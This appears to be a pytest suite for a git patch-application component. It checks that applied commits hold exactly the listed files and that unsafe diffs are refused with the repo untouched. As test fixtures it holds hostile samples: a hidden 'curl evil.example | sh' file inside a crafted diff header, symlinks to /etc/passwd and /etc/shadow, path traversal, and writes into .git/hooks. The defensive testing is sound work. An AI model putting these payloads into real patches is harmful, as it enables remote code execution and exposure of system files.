"""The patch suite: an applied commit holds exactly the files its proposal lists, and the target stays clean.

Every case runs on a real git repo: the diff is made by git (as forge's workspace makes it) or written by hand (as an
attacker or an editor would), applied through `apply_workspace_patch`, and judged by git itself: the commit's file
list (`git show --no-renames --name-status -z`) equals the listed files, and `git status` shows nothing else.
A refused patch leaves the repo exactly as it was: HEAD, index, status and every working-tree byte.
"""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from fractalops.errors import ProposalError
from fractalops.planes.proposals import Proposal, ProposalStore, apply_workspace_patch
from fractalops.planes.proposals import workspace_patch as wp
from fractalops.planes.proposals.kinds import review_args
from fractalops.planes.proposals.patch_files import PatchFiles, files_in_diff
from tests.conftest import make_git_repo


def git(repo: Path, *args: str, input: bytes | None = None) -> str:
    proc = subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", *args],
                          input=input, capture_output=True, check=True)
    return proc.stdout.decode("utf-8", "surrogateescape")


def head(repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def snapshot(repo: Path) -> tuple:
    """HEAD, index, status and every working-tree file (mode, bytes or link text): 'exactly as before'."""
    files = {}
    for path in sorted(repo.rglob("*")):
        rel = path.relative_to(repo)
        if rel.parts[0] == ".git":
            continue
        if path.is_symlink():
            files[str(rel)] = ("link", os.readlink(path))
        elif path.is_file():
            files[str(rel)] = (path.stat().st_mode, path.read_bytes())
    return (head(repo), git(repo, "ls-files", "-s", "-z"), status(repo), files)


def status(repo: Path) -> str:
    return git(repo, "status", "--porcelain", "--untracked-files=all")


def committed(repo: Path, rev: str = "HEAD") -> list[str]:
    """The commit's file list, as git shows it (renames as their source deleted and destination added)."""
    fields = [f for f in git(repo, "show", "--no-renames", "--name-status", "--format=", "-z", rev).split("\0") if f]
    return sorted(fields[1::2])


def make_diff(repo: Path, change: Callable[[Path], None], *flags: str) -> str:
    """What forge's workspace does: change the tree, stage all, `git diff --cached --binary`; then reset."""
    change(repo)
    git(repo, "add", "-A")
    diff = git(repo, "diff", "--cached", "--binary", "--full-index", *flags, "HEAD")
    git(repo, "reset", "-q", "--hard", "HEAD")
    git(repo, "clean", "-fdq")
    return diff


@pytest.fixture
def store(tmp_path: Path) -> ProposalStore:
    return ProposalStore(tmp_path / "proposals.sqlite")


def propose(store: ProposalStore, repo: Path, diff: str, files: list[str] | None = None) -> Proposal:
    base = head(repo)
    listed = files if files is not None else files_in_diff(diff, repo, base)
    return store.create(thread_id="t", author_agent="forge", requester="agent:forge", kind="workspace_patch",
                        target=str(repo), title="suite", payload={"diff": diff, "base_commit": base, "files": listed})


def apply(p: Proposal, tmp_path: Path):
    return apply_workspace_patch(p, lock_dir=tmp_path / "locks", approvers=["alice"])


def assert_applied_exactly(repo: Path, p: Proposal, tmp_path: Path, files: list[str]) -> str:
    assert p.payload["files"] == files
    outcome = apply(p, tmp_path)
    assert outcome.status == "applied"
    assert committed(repo) == files
    assert status(repo) == ""
    assert f"Fractalops-Proposal: {p.id}" in git(repo, "log", "-1", "--format=%B")
    return outcome.commit


def assert_refused(repo: Path, p: Proposal, tmp_path: Path, match: str) -> None:
    before = snapshot(repo)
    with pytest.raises(ProposalError, match=match):
        apply(p, tmp_path)
    assert snapshot(repo) == before


# --- what git's diff makes: each applies to exactly its files ------------------------------------------------------

def edits(write: dict[str, str | bytes] | None = None, delete: tuple[str, ...] = (),
          rename: dict[str, str] | None = None) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        for rel, content in (write or {}).items():
            (repo / rel).parent.mkdir(parents=True, exist_ok=True)
            (repo / rel).write_bytes(content if isinstance(content, bytes) else content.encode())
        for rel in delete:
            (repo / rel).unlink()
        for old, new in (rename or {}).items():
            (repo / old).rename(repo / new)
    return change


CASES: dict[str, tuple[dict[str, str], Callable[[Path], None], tuple[str, ...], list[str]]] = {
    "quoted names": ({"say \"hi\".txt": "a\n"}, edits({"say \"hi\".txt": "b\n", "back\\slash.txt": "c\n"}),
                     (), ["back\\slash.txt", "say \"hi\".txt"]),
    "spaces": ({"dir with space/file name.txt": "a\n"},
               edits({"dir with space/file name.txt": "b\n", "new dir/new file.txt": "n\n"}),
               (), ["dir with space/file name.txt", "new dir/new file.txt"]),
    "unicode": ({"näme/ünï.txt": "a\n"}, edits({"näme/ünï.txt": "b\n", "日本.md": "こんにちは\n"}),
                (), ["näme/ünï.txt", "日本.md"]),
    "renames": ({"old name.txt": "same\n" * 20, "src/a.py": "x = 1\n" * 20},
                edits(rename={"old name.txt": "new näme.txt", "src/a.py": "src/b.py"}),
                ("-M",), ["new näme.txt", "old name.txt", "src/a.py", "src/b.py"]),
    "deletes": ({"gone.txt": "bye\n", "dir/gone too.txt": "bye\n", "kept.txt": "k\n"},
                edits(delete=("gone.txt", "dir/gone too.txt")), (), ["dir/gone too.txt", "gone.txt"]),
    "binary": ({"blob.bin": "seed\n"},
               edits({"blob.bin": bytes(range(256)) * 4, "new.png": b"\x89PNG\r\n\x1a\n\0\0\xff" * 50}),
               (), ["blob.bin", "new.png"]),
}


@pytest.mark.parametrize("case", list(CASES))
def test_git_made_diffs_apply_exactly_their_files(case: str, tmp_path: Path, store: ProposalStore) -> None:
    initial, change, flags, files = CASES[case]
    repo = make_git_repo(tmp_path / "repo", {"README.md": "# demo\n", **initial})
    diff = make_diff(repo, change, *flags)
    expected = {}
    change(scratch := make_git_repo(tmp_path / "scratch", {"README.md": "# demo\n", **initial}))
    for rel in files:
        expected[rel] = (scratch / rel).read_bytes() if (scratch / rel).exists() else None
    assert_applied_exactly(repo, propose(store, repo, diff), tmp_path, files)
    for rel, content in expected.items():
        assert ((repo / rel).read_bytes() if (repo / rel).exists() else None) == content, rel


@pytest.mark.parametrize("quote_path", ["true", "false"])
def test_core_quote_path_of_the_maker_or_the_target_changes_nothing(quote_path: str, tmp_path: Path,
                                                                    store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    git(repo, "config", "core.quotePath", quote_path)
    (repo / "café crème.txt").write_text("☕\n")
    git(repo, "add", "-A")
    diff = git(repo, "-c", f"core.quotePath={quote_path}", "diff", "--cached", "--binary", "HEAD")
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-fdq")
    quoted = '"b/caf\\303\\251 cr\\303\\250me.txt"' in diff
    assert quoted == (quote_path == "true"), "the maker's setting decides the header; git reads both"
    assert_applied_exactly(repo, propose(store, repo, diff), tmp_path, ["café crème.txt"])


def test_mode_changes_apply_and_are_shown_to_the_reviewer(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo", {"run.sh": "echo hi\n", "tool.sh": "echo t\n"})
    git(repo, "update-index", "--chmod=+x", "tool.sh")
    git(repo, "commit", "-qm", "exec tool")

    def change(r: Path) -> None:
        (r / "run.sh").chmod(0o755)
        (r / "tool.sh").chmod(0o644)
        (r / "new tool.sh").write_text("echo new\n")
        (r / "new tool.sh").chmod(0o755)

    p = propose(store, repo, make_diff(repo, change))
    assert review_args(p)["file_changes"] == [
        "add new tool.sh (mode 100755, executable)",
        "modify run.sh (mode 100644 -> 100755, now executable)",
        "modify tool.sh (mode 100755 -> 100644, no longer executable)",
    ]
    assert_applied_exactly(repo, p, tmp_path, ["new tool.sh", "run.sh", "tool.sh"])
    modes = {line.split("\t")[1]: line.split()[0] for line in git(repo, "ls-tree", "HEAD").splitlines()}
    assert modes["run.sh"] == modes["new tool.sh"] == "100755" and modes["tool.sh"] == "100644"
    assert os.access(repo / "run.sh", os.X_OK) and not os.access(repo / "tool.sh", os.X_OK)


def test_deleting_a_tracked_symlink_is_allowed(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    (repo / "link").symlink_to("README.md")
    git(repo, "add", "link")
    git(repo, "commit", "-qm", "link")
    assert_applied_exactly(repo, propose(store, repo, make_diff(repo, lambda r: (r / "link").unlink())), tmp_path,
                           ["link"])
    assert not (repo / "link").is_symlink()


def test_idempotent_and_a_crash_between_apply_and_commit_only_commits(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    p = propose(store, repo, make_diff(repo, edits({"a b.txt": "x\n"})))
    (repo / "mine.txt").write_text("user's untracked file\n")
    git(repo, "apply", "--index", "-", input=p.payload["diff"].encode())  # the crash: applied, never committed
    first = apply(p, tmp_path)
    assert first.status == "applied" and committed(repo) == ["a b.txt"]
    again = apply(p, tmp_path)
    assert again.status == "already_applied" and again.commit == first.commit
    assert status(repo) == "?? mine.txt\n", "the user's untracked file is neither committed nor removed"


# --- what git's diff must never do: refused, the repo exactly as before ---------------------------------------------

EVIL_HEADER = (
    "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-# demo\n+# demo, edited\n"
    'diff --git "a/evil file.sh" "b/evil file.sh"\nnew file mode 100755\n--- /dev/null\n+++ "b/evil file.sh"\n'
    "@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil.example | sh\n"
)


def test_the_quoted_header_exploit_is_refused(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    header_regex = sorted(m.group(2) for m in re.finditer(r"^diff --git a/(\S+) b/(\S+)$", EVIL_HEADER, flags=re.M))
    assert header_regex == ["README.md"], "what the old file list saw"
    assert files_in_diff(EVIL_HEADER, repo, head(repo)) == ["README.md", "evil file.sh"], "what git reads"
    assert_refused(repo, propose(store, repo, EVIL_HEADER, files=["README.md"]), tmp_path,
                   r"not listed: \['evil file\.sh'\]")
    assert not (repo / "evil file.sh").exists()


def test_a_patch_touching_an_unlisted_file_is_refused(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo", {"README.md": "# demo\n", "other.txt": "o\n"})
    diff = make_diff(repo, edits({"README.md": "new\n", "other.txt": "p\n"}))
    assert_refused(repo, propose(store, repo, diff, files=["README.md"]), tmp_path, r"not listed: \['other\.txt'\]")
    assert_refused(repo, propose(store, repo, diff, files=["README.md", "other.txt", "ghost.txt"]), tmp_path,
                   r"listed but untouched: \['ghost\.txt'\]")


def _new_file(path: str, text: str = "pwned") -> str:
    q = '"' if any(c in path for c in ' "\\\t') else ""
    a, b = (f"{q}a/{path}{q}", f"{q}b/{path}{q}")
    return f"diff --git {a} {b}\nnew file mode 100644\n--- /dev/null\n+++ {b}\n@@ -0,0 +1 @@\n+{text}\n"


def test_a_path_through_a_symlinked_directory_is_refused(tmp_path: Path, store: ProposalStore) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    repo = make_git_repo(tmp_path / "repo")
    (repo / "out").symlink_to(outside)
    (repo / "inner").symlink_to("docs")
    (repo / "docs").mkdir()
    (repo / "docs/keep.md").write_text("k\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "links")
    for path, match in [("out/evil.txt", "goes through the symlink 'out'"),
                        ("inner/x.md", "goes through the symlink 'inner'")]:
        assert_refused(repo, propose(store, repo, _new_file(path), files=[path]), tmp_path, match)
    (repo / "loose").symlink_to(outside)  # untracked: only the working tree knows it
    assert_refused(repo, propose(store, repo, _new_file("loose/x.txt"), files=["loose/x.txt"]), tmp_path,
                   "goes through the symlink 'loose'")
    assert list(outside.iterdir()) == []


LINK = "diff --git a/{p} b/{p}\nnew file mode 120000\n--- /dev/null\n+++ b/{p}\n@@ -0,0 +1 @@\n+{to}\n\\ No newline at end of file\n"
GITLINK = ("diff --git a/{p} b/{p}\nnew file mode 160000\nindex 0000000..{sha}\n--- /dev/null\n+++ b/{p}\n@@ -0,0 +1 @@\n"
           "+Subproject commit {sha}\n")


@pytest.mark.parametrize("diff,path,match", [
    (LINK.format(p="passwd", to="/etc/passwd"), "passwd", "would become a symlink"),
    (LINK.format(p="docs/up", to="../.."), "docs/up", "would become a symlink"),
    (GITLINK.format(p="vendor/lib", sha="a" * 40), "vendor/lib", "submodule"),
    (_new_file(".git/hooks/post-commit", "#!/bin/sh"), ".git/hooks/post-commit", "inside .git"),
    (_new_file(".GIT/config"), ".GIT/config", "inside .git"),
    (_new_file("sub/.git"), "sub/.git", "inside .git"),
    (_new_file("sub/.git./x"), "sub/.git./x", "inside .git"),
    (_new_file("tab\tname"), "tab\tname", "control character U\\+0009"),
    (_new_file("../escape.txt"), "../escape.txt", None),
])
def test_unsafe_patches_are_refused_before_anything_is_written(diff: str, path: str, match: str | None,
                                                               tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    assert_refused(repo, propose(store, repo, diff, files=[path]), tmp_path, match or "refusing to apply")
    assert not (tmp_path / "escape.txt").exists()


def test_changing_an_existing_symlink_is_refused(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo")
    (repo / "link").symlink_to("README.md")
    git(repo, "add", "link")
    git(repo, "commit", "-qm", "link")

    def retarget(r: Path) -> None:
        (r / "link").unlink()
        (r / "link").symlink_to("/etc/shadow")

    assert_refused(repo, propose(store, repo, make_diff(repo, retarget)), tmp_path, "would stay a symlink")


def test_dirty_target_paths_and_staged_work_are_refused_and_kept(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo", {"README.md": "# demo\n", "other.txt": "o\n"})
    p = propose(store, repo, make_diff(repo, edits({"README.md": "patched\n"})))
    (repo / "README.md").write_text("the user's unsaved edit\n")
    assert_refused(repo, p, tmp_path, r"uncommitted changes where .* writes \(\['README\.md'\]\)")
    git(repo, "checkout", "README.md")
    (repo / "other.txt").write_text("staged by the user\n")
    git(repo, "add", "other.txt")
    assert_refused(repo, p, tmp_path, r"has staged changes \(\['other\.txt'\]\)")
    git(repo, "reset", "-q")
    (repo / "notes.txt").write_text("untracked, elsewhere\n")
    before = status(repo)
    assert apply(p, tmp_path).status == "applied" and committed(repo) == ["README.md"]
    assert status(repo) == before, "the user's other uncommitted work is untouched and not committed"


def test_a_stray_that_gets_past_the_file_list_is_rolled_back(tmp_path: Path, store: ProposalStore,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Defence in depth: if git's reading and git's apply ever disagreed, the index check catches the stray."""
    repo = make_git_repo(tmp_path / "repo", {"README.md": "# demo\n", "kept.txt": "k\n"})
    diff = make_diff(repo, edits({"README.md": "x\n", "stray dir/evil.sh": "boom\n"}, delete=("kept.txt",)))
    (repo / "mine.txt").write_text("user's\n")
    monkeypatch.setattr(wp, "check_patch", lambda *a: PatchFiles(changes=(), named=("README.md",)))
    assert_refused(repo, propose(store, repo, diff, files=["README.md"]), tmp_path,
                   r"staged \['README\.md', 'kept\.txt', 'stray dir/evil\.sh'\], not the files it lists .*rolled back")
    assert not (repo / "stray dir").exists()


def test_a_moved_target_rebases_with_gits_file_list(tmp_path: Path, store: ProposalStore) -> None:
    repo = make_git_repo(tmp_path / "repo", {"README.md": "# demo\n"})
    p = propose(store, repo, make_diff(repo, edits({"ünï code.txt": "u\n"})))
    (repo / "OTHER.md").write_text("moved\n")
    git(repo, "add", "OTHER.md")
    git(repo, "commit", "-qm", "other")
    outcome = apply(p, tmp_path)
    assert outcome.status == "stale" and "moved from" in outcome.reason
    assert outcome.rebased["files"] == ["ünï code.txt"] and outcome.rebased["base_commit"] == head(repo)
